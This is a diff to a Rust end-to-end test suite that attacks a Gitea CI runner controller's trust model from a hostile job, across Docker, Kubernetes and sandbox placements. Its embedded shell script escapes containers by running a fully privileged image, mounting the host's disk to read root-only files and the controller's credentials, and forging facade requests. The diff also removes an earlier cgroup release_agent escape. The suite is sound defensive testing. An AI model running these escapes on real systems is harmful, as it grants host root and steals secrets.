@@ -1,11 +1,12 @@
 //! The trust model, attacked (docs/security.md): real jobs through the real Gitea
 //! 1.23.8, the controller, the runner image with the supervisor and the real
-//! gitea-runner on a real dockerd. An attacker's job tries, from its steps, everything
-//! the table lists — its own capability, another task through the facade with a valid
-//! capability and session of it, the runner credential, the capability key, the store,
-//! other environments, the host, the controller's HTTP port — in each docker mode, and the
-//! suite asserts exactly what the table says. What a mode does not allow must fail; what
-//! it allows is shown, not assumed.
+//! gitea-runner, in containers on a real dockerd and in Pods of the real Kubernetes
+//! cluster. An attacker's job tries, from its steps, everything the table lists — its own
+//! capability, another task through the facade with a valid capability and session of
+//! it, the runner credential, the capability key, the store, other environments, the
+//! host, the controller's HTTP port — in each mode of both placements, and the suite
+//! asserts exactly what the table says. What a mode does not allow must fail; what it
+//! allows is shown, not assumed.
 //!
 //! The attacker knows what an attacker could: the host paths of the controller's files
 //! (defaults are public), the victims' assignment ids, and — as if read from a Pod spec
@@ -17,18 +18,23 @@ use std::{collections::BTreeMap, time::Duration};
 
 use base64::Engine as _;
 use controller::{
-    assignment::capability::{CapabilityKey, session_scope},
+    assignment::capability::CapabilityKey,
+    facade::{Peer, session_scope},
     store::State,
 };
 use e2e::{
     docker::host,
-    stack::{Controller, Options},
+    kubernetes::{Cluster, cluster},
+    stack::{Controller, Options, PodOptions, SandboxOptions},
 };
 use proto::{
     facade::v1::{AssignmentCredential, ClaimRequest, UpdateLogRequest},
     runner::v1::{LogRow, UpdateLogRequest as RunnerLog},
 };
-use testkit::gitea::{Gitea, GiteaOptions, TaskInfo, strip_log_timestamps};
+use testkit::{
+    gitea::{Gitea, GiteaOptions, TaskInfo, strip_log_timestamps},
+    opensandbox::OpenSandbox,
+};
 
 /// What the stack writes as the capability key (tests/e2e/src/stack.rs).
 const KEY: &[u8] = b"e2e-capability-key-0123456789abcdef0123456789";
@@ -65,6 +71,8 @@ struct Loot {
     key: String,
     store: String,
     gateway: String,
+    /// The facade's development-mode TCP address (Pods); empty: the environment's socket.
+    facade_tcp: String,
     http_port: u16,
     job_dockerd: bool,
     /// A root-only file on the host and what it holds.
@@ -74,26 +82,29 @@ struct Loot {
 
 const STEP: &str = r#"
 set +e
-verdict() { echo "ATTACK $1: $2 ($3)"; }
+verdict() { echo "ATTACK $1: $2 $3"; }
 facade=/run/gitea-dynamic-runner/facade.sock
 grpc() { # PROCEDURE BASE64-FRAME → "http-code grpc-status"
   echo "$2" | base64 -d > /tmp/request.bin
-  curl -s -o /dev/null -m 10 --http2-prior-knowledge --unix-socket "$facade" -H 'content-type: application/grpc' -H 'te: trailers' \
-    --data-binary @/tmp/request.bin -w '%{http_code} %header{grpc-status}' "http://facade/facade.v1.FacadeService/$1"
+  if [ -n "$FACADE_TCP" ]; then where=$FACADE_TCP; set -- "$1" "$2"; else where=facade; set -- "$1" "$2" --unix-socket "$facade"; fi
+  curl -s -o /dev/null -m 10 --http2-prior-knowledge "${@:3}" -H 'content-type: application/grpc' -H 'te: trailers' \
+    --data-binary @/tmp/request.bin -w '%{http_code} %header{grpc-status}' "http://$where/facade.v1.FacadeService/$1"
 }
 facade_verdict() { # NAME "http-code grpc-status": 200 with no status in the headers is a success (status in the trailers)
   case "$2" in
-    "200 ") verdict "$1" reach "the facade answered OK" ;;
+    "200 " | "200 0") verdict "$1" reach "the facade answered OK: $2" ;;
     *) verdict "$1" refused "http and grpc-status: $2" ;;
   esac
 }
 
 # Root in the environment, where the job has its own dockerd: a tiny image of the
-# environment's own binaries, run with every capability (--privileged is refused: the
-# environment's device cgroup cannot hand out every device) and the loop devices.
+# environment's own binaries, run with every capability (--privileged is refused where
+# the environment's device cgroup cannot hand out every device) and every block device
+# the environment's own device cgroup lets through (all of them, or only the loop devices).
 root=""
+devices='b *:* rmw'
 as_root() {
-  docker run --rm --cap-add ALL --cap-drop SYS_RESOURCE --security-opt seccomp=unconfined --security-opt apparmor=unconfined --device-cgroup-rule 'b 7:* rmw' \
+  docker run --rm --cap-add ALL --cap-drop SYS_RESOURCE --security-opt seccomp=unconfined --security-opt apparmor=unconfined --device-cgroup-rule "$devices" \
     --pid=host --cgroupns=host -v /:/env -v /dev:/dev tiny:1 "$@"
 }
 if [ "$JOB_DOCKERD" = true ] && docker info >/dev/null 2>&1; then
@@ -104,38 +115,30 @@ if [ "$JOB_DOCKERD" = true ] && docker info >/dev/null 2>&1; then
     for l in $(ldd "$b" 2>/dev/null | grep -o '/[^ ]*'); do mkdir -p ".$(dirname "$l")" && cp -L "$l" ".$l"; done
   done
   tar -c . | docker import - tiny:1 >/dev/null && root=yes
+  as_root /bin/sh -c true 2>/dev/null || devices='b 7:* rmw'
   cd - >/dev/null
 fi
 
-# The host, as its root, through a cgroup v1 release_agent (needs CAP_SYS_ADMIN in the
-# host's user namespace and no seccomp/AppArmor, which a job-local dockerd needs too).
-upper=$(sed -n 's/^[0-9]* [0-9]* [0-9:]* \/ \/ .*upperdir=\([^,]*\).*/\1/p' /proc/self/mountinfo | head -n1)
-cat > /tmp/escape.sh <<'ESCAPE'
-upper=$1; target=$2
-printf '#!/bin/sh\ncat %s > %s/gdr-loot 2>&1\n' "$target" "$upper" > /env/gdr-payload
-chmod +x /env/gdr-payload
-for controller in memory pids rdma cpu; do
-  mkdir -p /x-$controller
-  mount -t cgroup -o $controller cgroup /x-$controller || { echo "[$controller: no mount]"; continue; }
-  d=/x-$controller/gdr-escape-$$
-  mkdir -p $d && echo 1 > $d/notify_on_release && echo "$upper/gdr-payload" > /x-$controller/release_agent || { echo "[$controller: no release_agent]"; continue; }
-  sh -c "echo \$\$ > $d/cgroup.procs" || { echo "[$controller: cannot move]"; continue; }
-  sleep 2
-  [ -s /env/gdr-loot ] && break
-  echo "[$controller: the agent did not run]"
-done
-cat /env/gdr-loot
-ESCAPE
-host_read() { # PATH → its content, read as the host's root
-  [ -n "$root" ] && [ -n "$upper" ] || return 1
-  rm -f /gdr-loot 2>/dev/null
-  as_root /bin/sh /env/tmp/escape.sh "$upper" "$1" 2>&1
+# The host's disk, as root: the filesystem the runtime's /etc/hosts comes from is the
+# host's (its device number is in mountinfo); mounted again, it is the same filesystem.
+disk=$(awk '$5 == "/etc/hosts" { for (i = 7; i <= NF; i++) if ($i == "-") { print $3, $(i + 1); exit } }' /proc/self/mountinfo)
+cat > /tmp/disk.sh <<'DISK'
+device=$1; type=$2; target=$3
+mknod /host-disk b "${device%:*}" "${device#*:}" || { echo "[disk: cannot make the device $device]"; exit 1; }
+mkdir -p /host-fs && mount -t "$type" /host-disk /host-fs || { echo "[disk: cannot mount $device ($type)]"; exit 1; }
+echo "[disk: mounted the host's $device]"
+cat "/host-fs$target"
+DISK
+host_read() { # PATH → its content, read as the host's root (with how, in brackets)
+  [ -n "$root" ] && [ -n "$disk" ] || return 1
+  # shellcheck disable=SC2086 # device and type, two words
+  as_root /bin/sh /env/tmp/disk.sh $disk "$1" 2>&1
 }
 file_verdict() { # NAME PATH NEEDLE
   if grep -qs "$3" "$2"; then verdict "$1" reach "read $2 directly"; return; fi
   out=$(host_read "$2")
-  if printf '%s' "$out" | grep -q "$3"; then verdict "$1" reach "read $2 as the host's root through a cgroup release_agent"
-  elif [ -n "$root" ]; then verdict "$1" unshown "root in the environment with every capability; the release_agent escape did not complete here: $(printf "%s" "$out" | tr "\n" " " | head -c 200)"
+  if printf '%s' "$out" | grep -q "$3"; then verdict "$1" reach "read $2 from the host's disk, mounted as root in the environment"
+  elif [ -n "$root" ]; then verdict "$1" unshown "root in the environment with every capability, but the host's disk did not mount: $(printf "%s" "$out" | tr "\n" " " | head -c 200)"
   else verdict "$1" refused "not in the environment; no root to escape with"; fi
 }
 
@@ -184,11 +187,11 @@ else
 fi
 
 # 9. The host itself: a file only the host's root reads.
-marker=$(host_read "$HOST_MARKER" | head -c 200)
-if [ "$marker" = "$HOST_MARKER_VALUE" ]; then
-  verdict host reach "ran as the host's root: read $HOST_MARKER (mode 0600)"
+marker=$(host_read "$HOST_MARKER")
+if printf '%s' "$marker" | grep -q "^$HOST_MARKER_VALUE"; then
+  verdict host reach "as the host's root: read $HOST_MARKER (mode 0600)"
 elif [ -n "$root" ]; then
-  verdict host unshown "root in the environment with every capability and no seccomp/AppArmor; the release_agent escape did not complete here"
+  verdict host unshown "root in the environment with every capability and no seccomp/AppArmor, but the host's disk did not mount"
 else
   verdict host refused "uid $(id -u), no-new-privileges: $(grep NoNewPrivs /proc/self/status | tr -s '\t' ' '), no Docker of its own: $(docker info >/dev/null 2>&1 && echo no || echo yes)"
 fi
@@ -200,13 +203,13 @@ true
 
 /// The attacker's workflow: the script goes in base64 (Gitea re-serialises each job's
 /// YAML, and a long script does not always survive that as a block scalar).
-fn attacker(loot: &Loot) -> String {
+fn attacker(loot: &Loot, runs_on: &str) -> String {
     format!(
         r#"name: attacker
 on: push
 jobs:
   attack:
-    runs-on: [disposable, container, docker]
+    runs-on: {runs_on}
     steps:
       - env:
           SCRIPT: "{script}"
@@ -218,6 +221,7 @@ jobs:
           KEY_FILE: "{key}"
           STORE: "{store}"
           GATEWAY: "{gateway}"
+          FACADE_TCP: "{facade_tcp}"
           HTTP_PORT: "{http_port}"
           HOST_MARKER: "{marker}"
           HOST_MARKER_VALUE: "{marker_value}"
@@ -232,25 +236,83 @@ jobs:
         key = loot.key,
         store = loot.store,
         gateway = loot.gateway,
+        facade_tcp = loot.facade_tcp,
         http_port = loot.http_port,
         marker = loot.marker.display(),
         marker_value = loot.marker_value,
     )
 }
 
-const ENDED: &str = "name: ended\non: push\njobs:\n  ended:\n    runs-on: [disposable, container, docker]\n    steps:\n      - run: echo done\n";
-const RUNNING: &str = "name: running\non: push\njobs:\n  running:\n    runs-on: [disposable, container, docker]\n    steps:\n      - run: echo victim running\n      - run: sleep 180\n";
+fn ended_workflow(runs_on: &str) -> String {
+    format!("name: ended\non: push\njobs:\n  ended:\n    runs-on: {runs_on}\n    steps:\n      - run: echo done\n")
+}
+
+fn running_workflow(runs_on: &str) -> String {
+    format!("name: running\non: push\njobs:\n  running:\n    runs-on: {runs_on}\n    steps:\n      - run: echo victim running\n      - run: sleep 180\n")
+}
 
 fn done(tasks: &[TaskInfo]) -> bool {
     !tasks.is_empty() && tasks.iter().all(|t| !t.is_open())
 }
 
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Placement {
+    Docker,
+    Kubernetes,
+    /// opensandbox-server with its Docker runtime (Kata is not on this machine).
+    Sandbox,
+}
+
+impl Placement {
+    fn runs_on(self) -> &'static str {
+        match self {
+            Placement::Docker => "[disposable, container, docker]",
+            Placement::Kubernetes => "[disposable, container, kubernetes]",
+            Placement::Sandbox => "[disposable, vm]",
+        }
+    }
+
+    fn name(self) -> &'static str {
+        match self {
+            Placement::Docker => "container.docker",
+            Placement::Kubernetes => "container.kubernetes",
+            Placement::Sandbox => "vm.opensandbox",
+        }
+    }
+}
+
 /// Runs the victims and the attacker in one mode; returns attempt → (verdict, detail).
-async fn attack(job_dockerd: bool) -> BTreeMap<String, (String, String)> {
+async fn attack(placement: Placement, job_dockerd: bool) -> BTreeMap<String, (String, String)> {
     let _turn = e2e::exclusive().await;
     let docker = host();
-    let gitea = Gitea::start(GiteaOptions { bind: docker.bridge_ip.into(), ..GiteaOptions::default() }).await;
-    let mut options = Options::new(&gitea.url(), &gitea.runner_registration_token().await, &docker.image("gitea-runner"), &docker.socket);
+    let (gateway, namespace) = match placement {
+        Placement::Docker | Placement::Sandbox => (docker.bridge_ip, None),
+        Placement::Kubernetes => (Cluster::HOST_IP, Some(tokio::task::block_in_place(|| cluster().namespace("gdr-attack")))),
+    };
+    let gitea = Gitea::start(GiteaOptions { bind: gateway.into(), ..GiteaOptions::default() }).await;
+    let token = gitea.runner_registration_token().await;
+    let mut sandboxes = None;
+    let mut options = match placement {
+        Placement::Docker => Options::new(&gitea.url(), &token, &docker.image("gitea-runner"), &docker.socket),
+        Placement::Kubernetes => {
+            let image = tokio::task::block_in_place(|| cluster().image("gitea-runner"));
+            let mut options = Options::new(&gitea.url(), &token, &image, std::path::Path::new("/nonexistent"));
+            options.kubernetes = Some(PodOptions::on(cluster(), namespace.as_deref().unwrap()));
+            options
+        }
+        Placement::Sandbox => {
+            let image = docker.image("gitea-runner");
+            let server = sandboxes.insert(tokio::task::block_in_place(|| OpenSandbox::start(&docker.url(), &image)));
+            let mut options = Options::new(&gitea.url(), &token, &image, &docker.socket);
+            options.opensandbox = Some(SandboxOptions::on_host(server, docker));
+            options
+        }
+    };
+    let facade_tcp = match (&options.kubernetes, &options.opensandbox) {
+        (Some(pods), _) => pods.facade_listen.clone(),
+        (_, Some(sandbox)) => sandbox.facade_listen.clone(),
+        _ => String::new(),
+    };
     options.capacity = 3;
     options.job_dockerd = job_dockerd;
     let http_port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
@@ -261,15 +323,21 @@ async fn attack(job_dockerd: bool) -> BTreeMap<String, (String, String)> {
 
     // A victim that has ended, and one that runs (claimed) while the attacker runs.
     let ended_repo = gitea.create_repo("ended").await;
-    gitea.commit_workflow(&ended_repo, "ended.yml", ENDED).await;
+    gitea.commit_workflow(&ended_repo, "ended.yml", &ended_workflow(placement.runs_on())).await;
     let ended = gitea.wait_for_tasks(&ended_repo, Duration::from_secs(180), done).await[0].id;
     let running_repo = gitea.create_repo("running").await;
-    gitea.commit_workflow(&running_repo, "running.yml", RUNNING).await;
+    gitea.commit_workflow(&running_repo, "running.yml", &running_workflow(placement.runs_on())).await;
     let running = gitea.wait_for_tasks(&running_repo, Duration::from_secs(180), |t| t.iter().any(|t| t.status == "running")).await[0].id;
     gitea.wait_for_log(&running_repo, 1, 0, "victim running").await;
     let running_id = format!("gitea-task-{running}");
     let record = controller.store.get(&running_id).await.unwrap().unwrap().value;
     assert!(matches!(record.state, State::Claimed { .. }), "{record:?}");
+    // The victim's session exactly as the facade handed it out (over TCP bound to the
+    // address the victim claimed from).
+    let victim = match victim_address(placement, namespace.as_deref(), &running_id, record.environment.as_deref().unwrap()) {
+        Some(address) => Peer::Address(address),
+        None => Peer::Environment { assignment_id: running_id.clone() },
+    };
 
     let credential = |id: &str, capability: String| Some(AssignmentCredential { assignment_id: id.to_owned(), capability });
     let report = |id: &str, task: i64, capability: String| {
@@ -292,19 +360,21 @@ async fn attack(job_dockerd: bool) -> BTreeMap<String, (String, String)> {
             credential: credential(&running_id, key.issue(&running_id, far)),
             holder: "attacker-holder-0123456789abcdef".into(),
         }),
-        report_running: report(&running_id, running, key.issue(&session_scope(&running_id), far)),
-        replay_ended: report(&ended_id, ended, key.issue(&session_scope(&ended_id), far)),
-        credential: state.join("runners/container.docker.json").display().to_string(),
+        report_running: report(&running_id, running, key.issue(&session_scope(&victim, &running_id), far)),
+        // The ended victim's address is gone with it: its session as a socket's.
+        replay_ended: report(&ended_id, ended, key.issue(&session_scope(&Peer::Local, &ended_id), far)),
+        credential: state.join(format!("runners/{}.json", placement.name())).display().to_string(),
         key: state.join("capability.key").display().to_string(),
         store: state.join("store.redb").display().to_string(),
-        gateway: docker.bridge_ip.to_string(),
+        gateway: gateway.to_string(),
+        facade_tcp,
         http_port,
         job_dockerd,
         marker,
         marker_value,
     };
     let attacker_repo = gitea.create_repo("attacker").await;
-    gitea.commit_workflow(&attacker_repo, "attacker.yml", &attacker(&loot)).await;
+    gitea.commit_workflow(&attacker_repo, "attacker.yml", &attacker(&loot, placement.runs_on())).await;
     let tasks = gitea.wait_for_tasks(&attacker_repo, Duration::from_secs(300), done).await;
     let log = strip_log_timestamps(&gitea.job_log(&attacker_repo, tasks[0].run_number, 0).await);
     assert_eq!(tasks[0].status, "success", "{log}");
@@ -314,17 +384,59 @@ async fn attack(job_dockerd: bool) -> BTreeMap<String, (String, String)> {
         .filter_map(|l| {
             let (name, rest) = l.split_once(": ")?;
             let (verdict, detail) = rest.split_once(' ')?;
-            Some((name.to_owned(), (verdict.to_owned(), detail.trim_matches(|c| c == '(' || c == ')').to_owned())))
+            Some((name.to_owned(), (verdict.to_owned(), detail.trim().to_owned())))
         })
         .collect();
     assert_eq!(verdicts.keys().collect::<Vec<_>>().len(), ATTEMPTS.len(), "every attempt reports:\n{log}");
-    // Nothing the attacker sent reached the victim's log.
+    // A refused report never reached the victim's log. (One let through may not show
+    // either: Gitea drops rows below what it already has.)
     let victim_log = strip_log_timestamps(&gitea.job_log(&running_repo, 1, 0).await);
-    assert!(!victim_log.contains("injected by the attacker"), "{victim_log}");
+    if verdicts.get("other-task-report").is_some_and(|(v, _)| v == "refused") {
+        assert!(!victim_log.contains("injected by the attacker"), "{victim_log}");
+    }
     gitea.cancel_run(&running_repo, 1).await;
     controller.wait_until_all_terminal(Duration::from_secs(60)).await;
+    if let Some(namespace) = namespace {
+        let label = controller.environment_label();
+        testkit::wait_until("every Pod is deleted", Duration::from_secs(90), || cluster().pods(&namespace, &label).is_empty()).await;
+        tokio::task::block_in_place(|| cluster().kubectl_ok(&["delete", "namespace", &namespace, "--wait=false"]));
+    }
     controller.stop().await;
+    drop(sandboxes);
     verdicts
+}
+
+/// The address the running victim claimed from where the facade listens on TCP: its
+/// Pod's, or its sandbox container's on the host's Docker.
+fn victim_address(placement: Placement, namespace: Option<&str>, assignment_id: &str, environment: &str) -> Option<std::net::IpAddr> {
+    let address = match placement {
+        Placement::Docker => return None,
+        // The kubelet reports the Pod's address some time after its containers started.
+        Placement::Kubernetes => tokio::task::block_in_place(|| {
+            let deadline = std::time::Instant::now() + Duration::from_secs(60);
+            loop {
+                let address = cluster().kubectl_ok(&["-n", namespace.unwrap(), "get", "pod", environment, "-o", "jsonpath={.status.podIP}"]);
+                if !address.trim().is_empty() || std::time::Instant::now() > deadline {
+                    break address.trim().to_owned();
+                }
+                std::thread::sleep(Duration::from_millis(250));
+            }
+        }),
+        Placement::Sandbox => {
+            let ids = host().docker(&["ps", "-q"]);
+            let wanted = format!("{}={assignment_id}", contract::environment::ASSIGNMENT_ID);
+            String::from_utf8_lossy(&ids.stdout)
+                .split_whitespace()
+                .find_map(|id| {
+                    let format = "{{range .NetworkSettings.Networks}}{{.IPAddress}} {{end}}|{{join .Config.Env \"\\n\"}}";
+                    let inspected = String::from_utf8_lossy(&host().docker(&["inspect", "--format", format, id]).stdout).into_owned();
+                    let (addresses, env) = inspected.split_once('|')?;
+                    env.lines().any(|line| line == wanted).then(|| addresses.split_whitespace().next().unwrap_or_default().to_owned())
+                })
+                .unwrap_or_else(|| panic!("no sandbox container of {assignment_id} on the host's Docker"))
+        }
+    };
+    Some(address.parse().unwrap_or_else(|_| panic!("{environment} has no address: {address:?}")))
 }
 
 fn table(mode: &str, verdicts: &BTreeMap<String, (String, String)>) -> String {
@@ -336,20 +448,14 @@ fn table(mode: &str, verdicts: &BTreeMap<String, (String, String)>) -> String {
     t
 }
 
-/// Asserts each attempt's verdict: `reach` for those listed, `refused` for the rest;
-/// an attempt in `escapes` needs the host's root from root in the environment, and is
-/// `reach`, or `unshown` where this machine's kernel did not run the escape's helper.
-fn expect(mode: &str, verdicts: &BTreeMap<String, (String, String)>, reach: &[&str], escapes: &[&str]) {
+/// Asserts each attempt's verdict: `reach` for those listed, `refused` for the rest.
+fn expect(mode: &str, verdicts: &BTreeMap<String, (String, String)>, reach: &[&str]) {
     let table = table(mode, verdicts);
     println!("{table}");
     for name in ATTEMPTS {
         let got = verdicts.get(name).map_or("missing", |(v, _)| v.as_str());
-        if escapes.contains(&name) {
-            assert!(matches!(got, "reach" | "unshown"), "{mode}: {name} is {got}{table}");
-        } else {
-            let want = if reach.contains(&name) { "reach" } else { "refused" };
-            assert_eq!(got, want, "{mode}: {name}{table}");
-        }
+        let want = if reach.contains(&name) { "reach" } else { "refused" };
+        assert_eq!(got, want, "{mode}: {name}{table}");
     }
 }
 
@@ -357,14 +463,42 @@ fn expect(mode: &str, verdicts: &BTreeMap<String, (String, String)>, reach: &[&s
 /// task and nothing else.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn the_default_docker_mode_holds_against_a_hostile_job() {
-    let verdicts = attack(false).await;
-    expect("docker (default)", &verdicts, &[], &[]);
+    let verdicts = attack(Placement::Docker, false).await;
+    expect("docker (default)", &verdicts, &[]);
 }
 
-/// With a job-local dockerd, a job step is root on the host: the table says so, and
-/// this shows it. The facade's bindings still hold (another task stays refused).
+/// With a job-local dockerd, a job step is root on the host: it mounts the host's disk
+/// and reads the controller's files, and mounts other jobs' storage. The facade's
+/// bindings still hold (another task stays refused).
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn a_job_local_dockerd_gives_a_hostile_job_the_host() {
-    let verdicts = attack(true).await;
-    expect("docker, job_dockerd = true", &verdicts, &["own-capability", "other-environments"], &["credential", "capability-key", "store", "host"]);
+    let verdicts = attack(Placement::Docker, true).await;
+    expect("docker, job_dockerd = true", &verdicts, &["own-capability", "credential", "capability-key", "store", "other-environments", "host"]);
+}
+
+/// The default Kubernetes mode (an unprivileged Pod, no job-local dockerd), its facade on
+/// the development-mode TCP listener (which binds a session to the Pod's address that
+/// claimed): a job reaches its own task and nothing else.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_default_kubernetes_mode_holds_against_a_hostile_job() {
+    let verdicts = attack(Placement::Kubernetes, false).await;
+    expect("kubernetes (default), development-mode TCP facade", &verdicts, &[]);
+}
+
+/// With a job-local dockerd the Pod is privileged: a step is root on its node, reads the
+/// controller's files from the node's disk and mounts other Pods' storage. The facade's
+/// binding still holds: a session of another task is refused from this Pod's address.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_privileged_kubernetes_pod_gives_a_hostile_job_its_node() {
+    let verdicts = attack(Placement::Kubernetes, true).await;
+    expect("kubernetes, job_dockerd = true", &verdicts, &["own-capability", "credential", "capability-key", "store", "other-environments", "host"]);
+}
+
+/// A sandbox of opensandbox-server's Docker runtime (an unprivileged container, no
+/// job-local dockerd), its facade on the development-mode TCP listener: as the default
+/// Kubernetes mode. (With Kata the sandbox is a VM; not on this machine.)
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_opensandbox_sandbox_holds_against_a_hostile_job() {
+    let verdicts = attack(Placement::Sandbox, false).await;
+    expect("vm.opensandbox (Docker runtime), development-mode TCP facade", &verdicts, &[]);
 }
